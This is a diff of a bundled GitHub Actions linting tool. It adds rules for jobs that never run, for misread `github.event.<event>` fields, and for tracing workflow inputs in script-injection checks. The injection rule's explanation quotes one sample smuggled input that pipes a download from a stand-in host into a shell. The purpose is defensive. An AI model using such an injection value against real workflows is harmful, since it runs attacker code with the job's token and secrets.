@@ -11,7 +11,7 @@ export const modules = {
 /* harmony export */ });
 /* harmony import */ var _release_facts_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(11467);
 /* harmony import */ var _rule_js__WEBPACK_IMPORTED_MODULE_2__ = __webpack_require__(49624);
-/* harmony import */ var _rules_index_js__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(22612);
+/* harmony import */ var _rules_index_js__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(78711);
 // Runs the chosen rules over a repository, adds the findings about the files themselves (YAML
 // errors, ignore comments), applies `# tokenless-ignore:` and sorts what is left.
 
@@ -206,16 +206,169 @@ function summaryLine(result) {
 
 /***/ }),
 
+/***/ 37242:
+/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {
+
+/* harmony export */ __webpack_require__.d(__webpack_exports__, {
+/* harmony export */   D8: () => (/* binding */ pushRunsOnTags),
+/* harmony export */   Z$: () => (/* binding */ neverRuns)
+/* harmony export */ });
+/* unused harmony export canRunOnTagRef */
+/* harmony import */ var _tokenless_workflow__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(27499);
+/* harmony import */ var _tokenless_workflow__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(11193);
+// Jobs that can never run: an `if:` that requires a tag ref (`startsWith(github.ref,
+// 'refs/tags/')`) in a workflow whose triggers never give one (a push filtered on branches only,
+// pull requests, schedules...).
+
+/** Events whose runs have a branch (or pull request) ref, never a tag. */
+const NEVER_TAG_EVENTS = new Set([
+    'pull_request',
+    'pull_request_target',
+    'pull_request_review',
+    'pull_request_review_comment',
+    'merge_group',
+    'schedule',
+    'workflow_run',
+    'repository_dispatch',
+    'issue_comment',
+    'issues',
+    'discussion',
+    'discussion_comment',
+    'label',
+    'milestone',
+    'page_build',
+    'public',
+    'status',
+    'watch',
+    'fork',
+    'gollum',
+    'check_run',
+    'check_suite',
+    'branch_protection_rule',
+    'delete',
+]);
+/** Whether a push trigger runs for tags: not when it filters on branches only. */
+function pushRunsOnTags(workflow) {
+    if (!workflow.events.has('push'))
+        return false;
+    const push = workflow.events.get('push');
+    if (!push || !push.isMap())
+        return true;
+    const keys = new Set(push.entries().map(([key]) => key));
+    if (keys.has('tags') || keys.has('tags-ignore'))
+        return true;
+    return !keys.has('branches') && !keys.has('branches-ignore');
+}
+/** Whether some trigger of the workflow can give a run whose `github.ref` is a tag. */
+function canRunOnTagRef(workflow) {
+    if (workflow.events.size === 0)
+        return true;
+    for (const event of workflow.events.keys()) {
+        if (event === 'push') {
+            if (pushRunsOnTags(workflow))
+                return true;
+        }
+        else if (!NEVER_TAG_EVENTS.has(event))
+            return true;
+    }
+    return false;
+}
+/** `github.ref` for `github.ref` or `github['ref']`, lower case; undefined for anything else. */
+function pathOf(node) {
+    if (node.kind === 'context')
+        return node.name.toLowerCase();
+    if (node.kind === 'index' && node.index.kind === 'literal') {
+        const target = pathOf(node.target);
+        const key = node.index.value;
+        return target === undefined || typeof key !== 'string'
+            ? undefined
+            : `${target}.${key.toLowerCase()}`;
+    }
+    return undefined;
+}
+function literalText(node) {
+    return node?.kind === 'literal' && typeof node.value === 'string' ? node.value : undefined;
+}
+/** A test that holds only on a tag ref. */
+function testsTagRef(node) {
+    if (node.kind === 'call') {
+        const name = node.name.toLowerCase();
+        const [subject, text] = [node.args[0], literalText(node.args[1])];
+        if (subject === undefined || pathOf(subject) !== 'github.ref' || text === undefined)
+            return false;
+        if (name === 'startswith')
+            return text.startsWith('refs/tags/');
+        if (name === 'contains')
+            return text.includes('refs/tags/');
+        return false;
+    }
+    if (node.kind === 'compare' && node.operator === '==') {
+        for (const [left, right] of [
+            [node.left, node.right],
+            [node.right, node.left],
+        ]) {
+            const path = pathOf(left);
+            const text = literalText(right);
+            if (text === undefined)
+                continue;
+            if (path === 'github.ref_type' && text.toLowerCase() === 'tag')
+                return true;
+            if (path === 'github.ref' && text.startsWith('refs/tags/'))
+                return true;
+        }
+    }
+    return false;
+}
+/** Whether the condition holds only on a tag ref: it is such a test, or one operand of an `&&`. */
+function requiresTagRef(node) {
+    if (testsTagRef(node))
+        return true;
+    return node.kind === 'and' && node.operands.some(requiresTagRef);
+}
+/** The expression of an `if:`: bare, or one `${{ }}` with nothing around it. */
+function conditionExpression(text) {
+    const trimmed = text.trim();
+    if (!trimmed.includes('${{'))
+        return trimmed;
+    const { found } = (0,_tokenless_workflow__WEBPACK_IMPORTED_MODULE_0__/* .scanExpressions */ .BX)(trimmed);
+    const only = found[0];
+    return found.length === 1 && only && only.start === 0 && only.end === trimmed.length
+        ? only.expression
+        : undefined;
+}
+/** A job whose `if:` requires a tag ref in a workflow no trigger of which gives one. */
+function neverRuns(job) {
+    const text = job.if?.str();
+    if (text === undefined)
+        return false;
+    const expression = conditionExpression(text);
+    if (expression === undefined || expression === '')
+        return false;
+    let node;
+    try {
+        node = (0,_tokenless_workflow__WEBPACK_IMPORTED_MODULE_1__/* .parseExpression */ .YK)(expression);
+    }
+    catch {
+        return false;
+    }
+    return requiresTagRef(node) && !canRunOnTagRef(job.workflow);
+}
+
+
+/***/ }),
+
 /***/ 11467:
 /***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {
 
 /* harmony export */ __webpack_require__.d(__webpack_exports__, {
 /* harmony export */   z: () => (/* binding */ ReleaseFacts)
 /* harmony export */ });
-/* harmony import */ var _tokenless_workflow__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(28154);
-/* harmony import */ var _step_kinds_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(28314);
+/* harmony import */ var _tokenless_workflow__WEBPACK_IMPORTED_MODULE_2__ = __webpack_require__(28154);
+/* harmony import */ var _job_conditions_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(37242);
+/* harmony import */ var _step_kinds_js__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(28314);
 // What each job does for a release, worked out once and shared by the rules: which steps
 // publish, tag, test, build; which jobs are test jobs; which workflows are release workflows.
+
 
 
 class ReleaseFacts {
@@ -234,35 +387,39 @@ class ReleaseFacts {
     publishes(step) {
         let found = this.publishCache.get(step);
         if (!found)
-            this.publishCache.set(step, (found = (0,_step_kinds_js__WEBPACK_IMPORTED_MODULE_0__/* .publishesOf */ .ZU)(step, this.scripts, this.repository.releaseIt)));
+            this.publishCache.set(step, (found = (0,_step_kinds_js__WEBPACK_IMPORTED_MODULE_1__/* .publishesOf */ .ZU)(step, this.scripts, this.repository.releaseIt)));
         return found;
     }
     tags(step) {
         let found = this.tagCache.get(step);
         if (!found)
-            this.tagCache.set(step, (found = (0,_step_kinds_js__WEBPACK_IMPORTED_MODULE_0__/* .tagCreationsOf */ .SX)(step, this.scripts, this.repository.releaseIt)));
+            this.tagCache.set(step, (found = (0,_step_kinds_js__WEBPACK_IMPORTED_MODULE_1__/* .tagCreationsOf */ .SX)(step, this.scripts, this.repository.releaseIt)));
         return found;
     }
     tests(step) {
         if (!this.testCache.has(step))
-            this.testCache.set(step, (0,_step_kinds_js__WEBPACK_IMPORTED_MODULE_0__/* .testsRunBy */ .G$)(step, this.scripts, this.repository.cibuildwheelTests === true));
+            this.testCache.set(step, (0,_step_kinds_js__WEBPACK_IMPORTED_MODULE_1__/* .testsRunBy */ .G$)(step, this.scripts, this.repository.cibuildwheelTests === true));
         return this.testCache.get(step);
     }
     build(step) {
         if (!this.buildCache.has(step))
-            this.buildCache.set(step, (0,_step_kinds_js__WEBPACK_IMPORTED_MODULE_0__/* .buildRunBy */ .tG)(step, this.scripts));
+            this.buildCache.set(step, (0,_step_kinds_js__WEBPACK_IMPORTED_MODULE_1__/* .buildRunBy */ .tG)(step, this.scripts));
         return this.buildCache.get(step);
     }
     version(step) {
         if (!this.versionCache.has(step))
-            this.versionCache.set(step, (0,_step_kinds_js__WEBPACK_IMPORTED_MODULE_0__/* .versionComputedBy */ .zt)(step, this.scripts));
+            this.versionCache.set(step, (0,_step_kinds_js__WEBPACK_IMPORTED_MODULE_1__/* .versionComputedBy */ .zt)(step, this.scripts));
         return this.versionCache.get(step);
     }
-    /** Publishes to npm, PyPI or TestPyPI made by the job's steps. */
+    /** Publishes to npm, PyPI or TestPyPI made by the job's steps (none if the job never runs). */
     jobPublishes(job) {
+        if ((0,_job_conditions_js__WEBPACK_IMPORTED_MODULE_0__/* .neverRuns */ .Z$)(job))
+            return [];
         return job.steps.flatMap((step) => this.publishes(step)).filter((p) => p.registry !== 'other');
     }
     jobTags(job) {
+        if ((0,_job_conditions_js__WEBPACK_IMPORTED_MODULE_0__/* .neverRuns */ .Z$)(job))
+            return [];
         return job.steps.flatMap((step) => this.tags(step));
     }
     /** A job that runs tests: a test step, or a call of a reusable workflow that runs them. */
@@ -301,7 +458,7 @@ class ReleaseFacts {
             .slice(0, index < 0 ? job.steps.length : index)
             .some((each) => this.tests(each) !== undefined))
             return true;
-        return (0,_tokenless_workflow__WEBPACK_IMPORTED_MODULE_1__/* .upstreamJobs */ .oZ)(job).some((upstream) => this.isTestJob(upstream));
+        return (0,_tokenless_workflow__WEBPACK_IMPORTED_MODULE_2__/* .upstreamJobs */ .oZ)(job).some((upstream) => this.isTestJob(upstream));
     }
 }
 
@@ -605,9 +762,9 @@ function readsCibuildwheelTests(root) {
 /* harmony export */ __webpack_require__.d(__webpack_exports__, {
 /* harmony export */   AK: () => (/* binding */ stepAnchor),
 /* harmony export */   Ey: () => (/* binding */ describeStep),
-/* harmony export */   df: () => (/* binding */ positionOf)
+/* harmony export */   df: () => (/* binding */ positionOf),
+/* harmony export */   xv: () => (/* binding */ truncate)
 /* harmony export */ });
-/* unused harmony export truncate */
 function positionOf(node, options = {}) {
     if (options.needle !== undefined)
         return node.find(options.needle);
@@ -635,7 +792,7 @@ function truncate(text, length) {
 
 /***/ }),
 
-/***/ 22612:
+/***/ 78711:
 /***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {
 
 
@@ -704,14 +861,146 @@ jobs:
     },
 };
 
+// EXTERNAL MODULE: ./packages/workflow/src/context-references.ts
+var context_references = __webpack_require__(16915);
+;// CONCATENATED MODULE: ./packages/cli/src/doctor/rules/event-fields.ts
+// `github.event.push.ref` reads as if it were the pushed ref, but no event's payload has a `push`
+// field: the expression is always empty. In a concurrency group it makes one group for every run.
+
+/**
+ * Event names that are no field of any webhook payload, and where what was meant lives: the
+ * payload of `push` has `ref` at its top, `pull_request_target`'s pull request is under
+ * `pull_request`, `issues`' issue under `issue`.
+ */
+const MEANT = {
+    push: '',
+    workflow_dispatch: '',
+    workflow_call: '',
+    create: '',
+    delete: '',
+    repository_dispatch: '',
+    status: '',
+    watch: '',
+    public: '',
+    fork: '',
+    gollum: '',
+    pull_request_target: 'pull_request',
+    issues: 'issue',
+    issue_comment: 'comment',
+    pull_request_review: 'review',
+    pull_request_review_comment: 'comment',
+};
+const REFERENCE = /^github\.event\.([a-z_]+)((?:\.[\w-]+|\[[^\]]*\])*)/;
+/** Every `github.event.<event name>…` reference in the workflow's expressions. */
+function missingFields(workflow) {
+    const found = [];
+    const visit = (node, key, depth) => {
+        if (depth > 40)
+            return;
+        if (node.isMap()) {
+            for (const [name, value] of node.entries())
+                visit(value, name, depth + 1);
+            return;
+        }
+        if (node.isSeq()) {
+            for (const item of node.items())
+                visit(item, undefined, depth + 1);
+            return;
+        }
+        const text = node.str();
+        if (text === undefined)
+            return;
+        const form = key === 'if' && !text.includes('${{') ? 'expression' : 'template';
+        if (!text.includes('github.event.'))
+            return;
+        for (const path of new Set((0,context_references/* contextReferences */.Q)(text, form))) {
+            const match = REFERENCE.exec(path);
+            if (!match || !(match[1] in MEANT))
+                continue;
+            const inner = MEANT[match[1]];
+            const rest = match[2] ?? '';
+            const meant = match[1] === 'workflow_call'
+                ? `inputs${rest}`
+                : `github.event${inner === '' ? '' : `.${inner}`}${rest}`;
+            found.push({ node, path, meant });
+        }
+    };
+    visit(workflow.node, undefined, 0);
+    return found;
+}
+function isConcurrencyGroup(workflow, node) {
+    const groups = [workflow.concurrency, ...workflow.jobs.map((job) => job.concurrency)];
+    for (const concurrency of groups) {
+        if (concurrency === undefined)
+            continue;
+        if (concurrency.node === node.node)
+            return concurrency;
+        if (concurrency.get('group')?.node === node.node)
+            return concurrency;
+    }
+    return undefined;
+}
+const eventFieldMissing = {
+    id: 'event-field-missing',
+    severity: 'error',
+    title: 'An expression reads `github.event.<event name>.…`, a field no event payload has.',
+    why: "`github.event` is the payload of the event that started the run, and no payload has a field named after its event: `github.event.push.ref` is always empty (the pushed ref is `github.event.ref`). Nothing fails: the condition is false, the text is blank, and a concurrency group keyed on it is the same for every run, so a release waits for, or is cancelled by, another tag's release.",
+    fix: 'Read the field where the payload has it: `github.event.ref` or `github.ref` for a push, `github.event.inputs.<name>` or `inputs.<name>` for a dispatch, `github.event.pull_request` under `pull_request_target`, `inputs.<name>` in a reusable workflow.',
+    bad: `on: { push: { tags: ['v*'] } }
+permissions: {}
+concurrency:
+  group: publish-\${{ github.event.push.ref }}
+  cancel-in-progress: true
+jobs:
+  publish:
+    runs-on: ubuntu-latest
+    environment: release
+    permissions: { id-token: write, contents: read }
+    steps:
+      - uses: actions/download-artifact@634f93cb2916e3fdff6788551b99b062d0335ce0 # v5.0.0
+      - uses: pypa/gh-action-pypi-publish@ed0c53931b1dc9bd32cbe73a98c7f6766f8a527e # v1.13.0
+`,
+    good: `on: { push: { tags: ['v*'] } }
+permissions: {}
+concurrency:
+  group: publish-\${{ github.ref }}
+  cancel-in-progress: false
+jobs:
+  publish:
+    runs-on: ubuntu-latest
+    environment: release
+    permissions: { id-token: write, contents: read }
+    steps:
+      - uses: actions/download-artifact@634f93cb2916e3fdff6788551b99b062d0335ce0 # v5.0.0
+      - uses: pypa/gh-action-pypi-publish@ed0c53931b1dc9bd32cbe73a98c7f6766f8a527e # v1.13.0
+`,
+    check({ repository, facts, report }) {
+        for (const workflow of repository.workflows) {
+            for (const { node, path, meant } of missingFields(workflow)) {
+                const event = REFERENCE.exec(path)[1];
+                const head = `\`${path}\` is always empty: no event's payload has a field named \`${event}\`.`;
+                const concurrency = isConcurrencyGroup(workflow, node);
+                if (concurrency === undefined) {
+                    report(node, `${head} Read \`${meant}\` instead.`, { needle: path, severity: 'warning' });
+                    continue;
+                }
+                const cancels = concurrency.get('cancel-in-progress')?.str() === 'true';
+                const releases = facts.isReleaseWorkflow(workflow);
+                report(node, `${head} This concurrency group is therefore the same for every run${cancels ? ', and with cancel-in-progress: true each run cancels the one before it, whatever tag or branch that one was releasing' : ': each run waits for the one before it, whatever tag or branch that one was releasing'}. Key the group on \`${meant}\`${event === 'push' ? ' (or `github.ref`)' : ''}.`, { needle: path, severity: cancels && releases ? 'error' : 'warning' });
+            }
+        }
+    },
+};
+
+// EXTERNAL MODULE: external "node:path"
+var external_node_path_ = __webpack_require__(76760);
 // EXTERNAL MODULE: ./packages/workflow/src/source-model.ts
 var source_model = __webpack_require__(28154);
 // EXTERNAL MODULE: ./packages/workflow/src/expressions.ts + 1 modules
 var expressions = __webpack_require__(27499);
-// EXTERNAL MODULE: ./packages/workflow/src/context-references.ts
-var context_references = __webpack_require__(16915);
 ;// CONCATENATED MODULE: ./packages/cli/src/doctor/rules/injection.ts
 // `${{ }}` pasted into a script: the value becomes code before the shell sees it.
+
 
 /** Event fields that are numbers, ids, hashes, booleans or fixed words: they cannot carry a command. */
 const SAFE_EVENT_FIELD = /\.(number|id|node_id|\w+_id|sha|\w+_sha|after|before|draft|merged|private|fork|size|\w+_count|additions|deletions|changed_files|run_attempt|run_number|created_at|updated_at|prerelease|forced|deleted|created|conclusion|status|action|login)$/;
@@ -768,11 +1057,213 @@ function envName(path) {
     const name = last.replace(/[^A-Za-z0-9]+/g, '_').toUpperCase();
     return /^[A-Z_]/.test(name) ? name : `VALUE_${name}`;
 }
+/** Reusable workflows and composite actions passing inputs on to each other: how far to follow. */
+const MAX_CALL_DEPTH = 5;
+/** Each scalar under `node` (a `with:` value, a matrix). */
+function scalarTexts(node) {
+    const text = node.str();
+    if (text !== undefined)
+        return [text];
+    if (node.isSeq())
+        return node.items().flatMap(scalarTexts);
+    return node.entries().flatMap(([, value]) => scalarTexts(value));
+}
+/** The texts `matrix.<keys>` can take: the values under those keys, `include:` entries too. */
+function matrixTexts(matrix, keys) {
+    const [first, ...rest] = keys;
+    if (first === undefined || first === '*' || matrix.str() !== undefined)
+        return scalarTexts(matrix);
+    const texts = [];
+    let nodes = [];
+    const own = matrix.get(first);
+    if (own)
+        nodes.push(...(own.isSeq() ? own.items() : [own]));
+    const include = matrix.get('include');
+    if (include?.str() !== undefined)
+        texts.push(include.str());
+    for (const entry of include?.items() ?? []) {
+        const value = entry.get(first);
+        if (entry.str() !== undefined)
+            texts.push(entry.str());
+        else if (value)
+            nodes.push(value);
+    }
+    for (const key of rest) {
+        const next = [];
+        for (const node of nodes) {
+            if (node.str() !== undefined || key === '*')
+                texts.push(...scalarTexts(node));
+            else if (node.isSeq())
+                next.push(...node.items().flatMap((item) => item.get(key) ?? []));
+            else {
+                const value = node.get(key);
+                if (value)
+                    next.push(value);
+            }
+        }
+        nodes = next;
+    }
+    return [...texts, ...nodes.flatMap(scalarTexts)];
+}
+/**
+ * Follows `inputs.X` of a composite action, or of a workflow only other workflows start
+ * (`workflow_call` without `workflow_dispatch`), to the callers in this repository: a workflow in
+ * another repository that calls it runs with its own token, and gains nothing here.
+ */
+class InputTracer {
+    repository;
+    callers = new Map();
+    constructor(repository) {
+        this.repository = repository;
+    }
+    traceable(owner) {
+        if ('action' in owner)
+            return true;
+        const events = owner.workflow.events;
+        return events.has('workflow_call') && !events.has('workflow_dispatch');
+    }
+    /** Whether the inputs `path` reads (`inputs.x`, or `inputs` whole) can carry outsiders' text. */
+    traceInputs(path, scope, depth = 0) {
+        const match = /^inputs(?:\.([\w-]+))?$/.exec(path);
+        if (!match || !this.traceable(scope.owner))
+            return 'unknown';
+        const names = match[1] !== undefined ? [match[1]] : this.inputNames(scope.owner);
+        let unknown = false;
+        for (const name of names) {
+            const traced = this.input(scope.owner, name, depth + 1);
+            if (traced === 'unknown')
+                unknown = true;
+            else if (traced)
+                return { input: name, origin: traced };
+        }
+        return unknown ? 'unknown' : 'safe';
+    }
+    declared(owner) {
+        return 'action' in owner ? owner.action.inputs : owner.workflow.inputs;
+    }
+    inputNames(owner) {
+        const names = new Set(this.declared(owner).map((input) => input.name));
+        for (const caller of this.callersOf(owner))
+            for (const [name] of caller.with?.entries() ?? [])
+                names.add(name);
+        return [...names];
+    }
+    input(owner, name, depth) {
+        if (depth > MAX_CALL_DEPTH)
+            return 'unknown';
+        const declared = this.declared(owner).find((input) => input.name === name);
+        if (declared?.type && SAFE_INPUT_TYPES.has(declared.type))
+            return undefined;
+        const callers = this.callersOf(owner);
+        if (callers.length === 0)
+            return 'unknown';
+        let unknown = false;
+        for (const caller of callers) {
+            const value = caller.with?.get(name);
+            const fallback = value ? undefined : declared?.node.get('default');
+            const node = value ?? fallback;
+            if (!node)
+                continue;
+            for (const text of scalarTexts(node)) {
+                const traced = this.text(text, caller.scope, depth);
+                if (traced === 'unknown')
+                    unknown = true;
+                if (traced === 'unknown' || !traced)
+                    continue;
+                if (traced.where === undefined)
+                    return {
+                        ...traced,
+                        kind: value ? 'passed' : 'default',
+                        where: caller.label(value ?? caller.uses),
+                    };
+                return { ...traced, through: [...traced.through, caller.label(node)] };
+            }
+        }
+        return unknown ? 'unknown' : undefined;
+    }
+    /** What a caller's value (a template) can carry, read in the caller's scope. */
+    text(text, scope, depth) {
+        let unknown = false;
+        for (const path of (0,context_references/* contextReferences */.Q)(text)) {
+            let traced;
+            if (path === 'matrix' || path.startsWith('matrix.')) {
+                // A static matrix is constants; one built from an expression is what that expression reads.
+                const matrix = scope.matrix;
+                if (!matrix)
+                    continue;
+                for (const each of matrixTexts(matrix, path.split('.').slice(1))) {
+                    const found = this.text(each, { ...scope, matrix: undefined }, depth);
+                    if (found) {
+                        traced = found;
+                        break;
+                    }
+                }
+            }
+            else if (!dangerous(path, scope))
+                continue;
+            else if (/^inputs(\.[\w-]+)?$/.test(path) && this.traceable(scope.owner)) {
+                const inputs = this.traceInputs(path, scope, depth);
+                if (inputs === 'safe')
+                    continue;
+                traced = inputs === 'unknown' ? 'unknown' : inputs.origin;
+            }
+            else
+                traced = origin(path);
+            if (traced === 'unknown')
+                unknown = true;
+            else if (traced)
+                return traced;
+        }
+        return unknown ? 'unknown' : undefined;
+    }
+    callersOf(owner) {
+        const key = 'action' in owner ? owner.action : owner.workflow;
+        let found = this.callers.get(key);
+        if (found)
+            return found;
+        found = [];
+        this.callers.set(key, found);
+        const dir = 'action' in owner ? external_node_path_.posix.dirname(owner.action.file.rel) : undefined;
+        const calls = (uses) => {
+            const path = (0,source_model/* localPath */.$S)(uses);
+            return dir !== undefined && path !== undefined && external_node_path_.posix.normalize(path) === dir;
+        };
+        for (const workflow of this.repository.workflows) {
+            const workflowScope = {
+                inputs: workflow.inputs,
+                events: workflow.events,
+                owner: { workflow },
+            };
+            for (const job of workflow.jobs) {
+                const label = (node) => `job "${job.id}" (${workflow.file.rel}:${node.pos().line})`;
+                const scope = { ...workflowScope, matrix: job.strategy?.get('matrix') };
+                if ('workflow' in owner && job.called === owner.workflow && job.uses)
+                    found.push({ with: job.with, uses: job.uses, label, scope });
+                for (const step of job.steps)
+                    if (!step.via && step.usesNode && calls(step.uses))
+                        found.push({ with: step.with, uses: step.usesNode, label, scope });
+            }
+        }
+        for (const action of this.repository.actions)
+            for (const step of action.steps)
+                if (step.usesNode && calls(step.uses))
+                    found.push({
+                        with: step.with,
+                        uses: step.usesNode,
+                        label: (node) => `composite action ${action.ref} (${action.file.rel}:${node.pos().line})`,
+                        scope: { inputs: action.inputs, events: undefined, owner: { action } },
+                    });
+        return found;
+    }
+}
+function origin(path) {
+    return { path, kind: 'passed', through: [] };
+}
 const scriptInjection = {
     id: 'script-injection',
     severity: 'error',
     title: '`${{ github.event.* }}`, `${{ github.head_ref }}` or `${{ inputs.* }}` expanded inside `run:` (script injection).',
-    why: 'GitHub pastes the value into the script before the shell runs it: a release title, a branch name, a commit message or a dispatch input such as `1.0"; curl evil | sh; "` becomes commands that run with the job\'s token and secrets (and, in a publish job, its power to publish). The same value in `env:` is data, not code.',
+    why: 'GitHub pastes the value into the script before the shell runs it: a release title, a branch name, a commit message or a dispatch input such as `1.0"; curl evil | sh; "` becomes commands that run with the job\'s token and secrets (and, in a publish job, its power to publish). The same value in `env:` is data, not code. The `inputs` of a composite action, or of a workflow only other workflows start (`workflow_call` without `workflow_dispatch`), are followed to the callers in this repository: they are reported when a caller passes text an outsider writes (directly, through another input, or in the matrix it comes from), or when no caller here shows what they hold.',
     fix: 'Pass the value through `env:` (`env: TITLE: ${{ github.event.release.name }}`) and use `"$TITLE"` in the script.',
     bad: `on:
   workflow_dispatch:
@@ -799,6 +1290,7 @@ jobs:
           VERSION: \${{ inputs.version }}
 `,
     check({ repository, report }) {
+        const tracer = new InputTracer(repository);
         const steps = [];
         for (const workflow of repository.workflows)
             for (const job of workflow.jobs)
@@ -806,14 +1298,14 @@ jobs:
                     if (!step.via)
                         steps.push({
                             step,
-                            scope: { inputs: workflow.inputs, events: workflow.events },
+                            scope: { inputs: workflow.inputs, events: workflow.events, owner: { workflow } },
                             where: `job "${job.id}"`,
                         });
         for (const action of repository.actions)
             for (const step of action.steps)
                 steps.push({
                     step,
-                    scope: { inputs: [], events: undefined },
+                    scope: { inputs: [], events: undefined, owner: { action } },
                     where: `composite action ${action.ref}`,
                 });
         for (const { step, scope, where } of steps) {
@@ -830,12 +1322,26 @@ jobs:
                 const seen = new Set();
                 for (const { expression, start, end } of (0,expressions/* scanExpressions */.BX)(text).found) {
                     const span = { text: text.slice(start, end) };
-                    const path = (0,context_references/* contextReferences */.Q)(expression, 'expression').find((each) => dangerous(each, scope));
+                    let path;
+                    let traced;
+                    for (const each of (0,context_references/* contextReferences */.Q)(expression, 'expression')) {
+                        if (!dangerous(each, scope))
+                            continue;
+                        const inputs = tracer.traceInputs(each, scope);
+                        if (inputs === 'safe')
+                            continue;
+                        path = each;
+                        traced = inputs === 'unknown' ? undefined : inputs;
+                        break;
+                    }
                     if (!path || seen.has(span.text))
                         continue;
                     seen.add(span.text);
                     const name = envName(path);
-                    report(node, `\`${span.text}\` is pasted into ${what} of ${where} before it runs: whoever controls ${path} (${describe(path)}) can run their own commands there, with the job's token and secrets.`, {
+                    const who = traced
+                        ? `${whereFrom(traced.input, traced.origin)}, and whoever controls ${traced.origin.path} (${describe(traced.origin.path)})`
+                        : `whoever controls ${path} (${describe(path)})`;
+                    report(node, `\`${span.text}\` is pasted into ${what} of ${where} before it runs: ${who} can run their own commands there, with the job's token and secrets.`, {
                         needle: span.text,
                         fix: `Pass it through the step's \`env:\` (\`${name}: ${span.text}\`) and use \`"$${name}"\`${what === 'the shell script' ? '' : ' (process.env.' + name + ')'} instead.`,
                     });
@@ -844,6 +1350,14 @@ jobs:
         }
     },
 };
+/** `inputs.x is github.event.issue.title, passed by job "y" (file:line)`. */
+function whereFrom(input, origin) {
+    const how = origin.kind === 'passed'
+        ? `passed by ${origin.where}`
+        : `its default when ${origin.where} leaves it out`;
+    const through = origin.through.length > 0 ? ` through ${origin.through.join(' and ')}` : '';
+    return `inputs.${input} is ${origin.path}, ${how}${through}`;
+}
 function describe(path) {
     if (path === 'github.head_ref')
         return 'the branch name of a pull request';
@@ -858,9 +1372,12 @@ function describe(path) {
 var rule = __webpack_require__(49624);
 // EXTERNAL MODULE: ./packages/cli/src/doctor/step-kinds.ts
 var step_kinds = __webpack_require__(28314);
+// EXTERNAL MODULE: ./packages/cli/src/doctor/job-conditions.ts
+var job_conditions = __webpack_require__(37242);
 ;// CONCATENATED MODULE: ./packages/cli/src/doctor/rules/ordering.ts
 // The order of a release: tests before tags and publishes, one version computed once, no way
 // around the test gate, tags on commits a branch holds, and publishes that a rerun can finish.
+
 
 
 
@@ -875,12 +1392,60 @@ function testJobsNotUpstream(job, facts) {
     for (const other of job.workflow.jobs) {
         if (other === job || upstream.has(other) || !facts.isTestJob(other))
             continue;
-        if ((0,source_model/* upstreamJobs */.oZ)(other).includes(job))
-            after.push(other);
+        if ((0,source_model/* upstreamJobs */.oZ)(other).includes(job)) {
+            if (runsMoreThanChecks(other, facts))
+                after.push(other);
+        }
         else
             parallel.push(other);
     }
     return { parallel, after };
+}
+/** `npm run check`, `pnpm check:types`: a lint or type check, not the test suite. */
+const CHECK_SCRIPT = /^(npm|pnpm|yarn|bun)\s+(run\s+)?checks?([:_.-]\S*)?$/;
+/**
+ * A job downstream of a release counts as its tests only when it runs more than a check script
+ * (a site deploy that type-checks its sources does not test the release).
+ */
+function runsMoreThanChecks(job, facts, seen = new Set()) {
+    if (job.steps.some((step) => {
+        const test = facts.tests(step);
+        return test !== undefined && !CHECK_SCRIPT.test(test.trim());
+    }))
+        return true;
+    const called = job.called;
+    if (!called || seen.has(called))
+        return false;
+    seen.add(called);
+    return called.jobs.some((inner) => runsMoreThanChecks(inner, facts, seen));
+}
+/** Commands that make a new Python project: a package made in the job is a test fixture. */
+const NEW_PROJECT = [
+    ['uv', 'init'],
+    ['poetry', 'new'],
+    ['poetry', 'init'],
+    ['hatch', 'new'],
+    ['pdm', 'init'],
+    ['flit', 'init'],
+];
+/**
+ * An upload to TestPyPI that is itself a test: from a workflow that no release starts (no tag
+ * push, `release`, `workflow_dispatch` or `workflow_call`), or of a package a step of the job
+ * makes from nothing (`uv init`, `poetry new`).
+ */
+function testPypiFixture(job, publish, facts) {
+    if (publish.registry !== 'testpypi')
+        return false;
+    const events = job.workflow.events;
+    const released = (0,job_conditions/* pushRunsOnTags */.D8)(job.workflow) ||
+        ['release', 'workflow_dispatch', 'workflow_call'].some((event) => events.has(event));
+    if (!released)
+        return true;
+    const index = job.steps.indexOf(publish.step);
+    return job.steps.slice(0, index < 0 ? job.steps.length : index + 1).some((step) => (0,step_kinds/* stepCommands */.Bs)(step, facts.scripts).some(({ words }) => {
+        const tool = words[0]?.split('/').pop();
+        return NEW_PROJECT.some(([name, sub]) => tool === name && words[1] === sub);
+    }));
 }
 /**
  * A workflow that only runs after another one (`workflow_run`, judged by workflow-run-unchecked):
@@ -958,7 +1523,7 @@ const tagBeforeTest = {
     id: 'tag-before-test',
     severity: 'error',
     title: 'A tag or GitHub Release is created by a job that does not wait for the tests.',
-    why: 'When the tests fail after the tag is pushed, the version is stranded: the tag (and often the release and its notes) exists for code that never passed, and has to be deleted by hand or skipped. Reported as a warning when nothing in the workflow tests the commit first (no tests at all, or only in jobs that run after the tag).',
+    why: 'When the tests fail after the tag is pushed, the version is stranded: the tag (and often the release and its notes) exists for code that never passed, and has to be deleted by hand or skipped. Reported as a warning when nothing in the workflow tests the commit first (no tests at all, or only in jobs that run after the tag). A job downstream of the tag that runs only a check script (`npm run check`, a site deploy) is not counted as its tests.',
     fix: 'Make the job that tags `needs:` the test job (or call the CI workflow as a job of this one, `uses: ./.github/workflows/ci.yml`, and need that).',
     bad: `on: { workflow_dispatch: {} }
 permissions: {}
@@ -1018,7 +1583,7 @@ const publishBeforeTest = {
     id: 'publish-before-test',
     severity: 'error',
     title: 'A job publishes to npm or PyPI without waiting for the tests.',
-    why: 'A version on npm or PyPI cannot be replaced: publishing before the tests pass (or while they still run) ships whatever the commit holds, and the only way back is a yank and a new version. Reported as a warning when nothing in the workflow tests the commit first (no tests at all, or only in jobs that run after the publish).',
